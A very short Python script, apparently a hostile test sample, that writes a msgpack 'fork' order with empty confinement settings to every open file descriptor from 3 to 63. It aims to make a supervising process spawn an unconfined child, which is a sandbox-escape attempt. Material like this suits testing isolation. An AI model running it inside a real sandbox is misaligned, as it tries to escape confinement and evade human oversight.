"""Sends orders to fork on every socket it can find."""

import os

for fd in range(3, 64):
    try:
        os.write(fd, b"\x82\xa4type\xa4fork\xaconfinement\x80")
    except OSError:
        pass
